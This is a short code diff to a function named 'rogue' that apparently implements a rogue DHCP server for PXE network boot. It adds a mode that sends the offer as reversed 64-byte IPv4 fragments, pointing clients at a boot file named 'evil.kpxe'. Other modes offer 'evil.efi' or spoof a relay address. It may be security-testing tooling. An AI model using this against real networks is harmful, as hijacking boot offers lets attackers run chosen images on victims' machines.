@@ -235,6 +235,10 @@ def rogue(interface: str, mode: str, *args: str) -> None:
             if req.secs >= 5 and not req.chaddr[0] & 0x02 and req.client_arch == 9:
                 sock.send(_offer(req, server_ip=ip, file=b"evil.efi", src_mac=mac, src_ip=ip,
                                  sport=6767))
+        elif mode == "fragmented":  # the offer in 64-byte IPv4 fragments, last first
+            whole = _offer(req, server_ip=ip, file=b"evil.kpxe", src_mac=mac, src_ip=ip)
+            for part in reversed(packets.fragment(whole, 64, ident=req.xid & 0xFFFF)):
+                sock.send(part)
         elif mode == "giaddr":
             sock.send(_offer(req, server_ip=args[0], file=b"evil.kpxe", src_mac=mac, src_ip=ip,
                              giaddr="192.0.2.254"))
